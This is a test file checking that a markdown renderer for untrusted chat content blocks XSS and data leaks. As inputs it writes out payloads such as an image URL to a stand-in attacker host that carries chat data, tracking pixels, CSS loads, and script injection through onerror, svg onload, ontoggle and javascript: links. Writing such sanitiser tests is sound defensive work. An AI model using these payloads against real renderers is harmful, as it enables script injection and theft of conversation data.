import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '$lib/ui/markdown';

/** The one renderer of untrusted text (replies, cards, lorebook entries, files), in Chromium. */
const dom = (text: string) => {
  const holder = document.createElement('div');
  holder.innerHTML = renderMarkdown(text);
  return holder;
};

describe('renderMarkdown', () => {
  it('keeps ordinary markdown: emphasis, lists, code, links that open in a new tab', () => {
    const out = dom('**bold** and `code`\n\n- one\n- two\n\n[docs](https://example.com/a)');
    expect(out.querySelector('strong')?.textContent).toBe('bold');
    expect(out.querySelectorAll('li')).toHaveLength(2);
    const link = out.querySelector('a')!;
    expect(link.href).toBe('https://example.com/a');
    expect(link.target).toBe('_blank');
    expect(link.rel).toBe('noopener noreferrer nofollow');
  });

  it('turns remote images, videos and audio into links to open, in the order they were', () => {
    const out = dom(
      '![the map](https://evil.example/leak.png?chat=secret) <img src="//evil.example/p.gif" alt="pixel"> ' +
        '<video src="https://evil.example/v.mp4" poster="https://evil.example/poster.png"></video>' +
        '<audio src="http://evil.example/a.mp3"></audio><img src="javascript:alert(1)">',
    );
    expect(out.querySelectorAll('img, video, audio')).toHaveLength(0);
    const links = [...out.querySelectorAll('a.remote-media')].map((a) => [
      a.textContent,
      (a as HTMLAnchorElement).href,
    ]);
    expect(links).toEqual([
      ['Image: the map (evil.example): open', 'https://evil.example/leak.png?chat=secret'],
      ['Image: pixel (evil.example): open', 'https://evil.example/p.gif'],
      ['Video (evil.example): open', 'https://evil.example/v.mp4'],
      ['Audio (evil.example): open', 'http://evil.example/a.mp3'],
    ]);
    expect(out.querySelector('span.remote-media')?.textContent).toBe('Image, not shown');
    expect(out.innerHTML).not.toContain('poster');
  });

  it('keeps images the page has itself: data: and blob: URLs', () => {
    const pixel = 'data:image/png;base64,iVBORw0KGgo=';
    const out = dom(`![dot](${pixel})`);
    expect(out.querySelector('img')?.getAttribute('src')).toBe(pixel);
  });

  it('drops styles, classes, ids, srcset and everything that loads or covers the page', () => {
    const out = dom(
      '<div style="position:fixed;inset:0;background:url(https://evil.example/bg)" class="banner" id="app">cover</div>' +
        '<style>body{background:url(https://evil.example/css)}</style>' +
        '<link rel="stylesheet" href="https://evil.example/s.css"><img srcset="https://evil.example/s.png 2x" src="data:image/png;base64,AA==">' +
        '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="q"></form>' +
        '<a href="https://example.com" ping="https://evil.example/ping">x</a><object data="https://evil.example/o"></object>',
    );
    const html = out.innerHTML;
    expect(html).toContain('cover');
    expect(html).not.toMatch(
      /style|class="banner"|id=|srcset|iframe|<form|<input|ping=|<object|<link|evil\.example\/(bg|css|s\.)/,
    );
  });

  it('runs no script, however it is hidden', () => {
    const out = dom(
      '<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2">' +
        '<a href="javascript:window.__pwned=3">x</a><svg onload="window.__pwned=4"></svg>' +
        '<details open ontoggle="window.__pwned=5"></details>',
    );
    document.body.append(out);
    out.querySelector('a')?.click();
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
    expect(out.innerHTML).not.toMatch(/onerror|ontoggle|onload|javascript:|<script/);
    out.remove();
  });
});
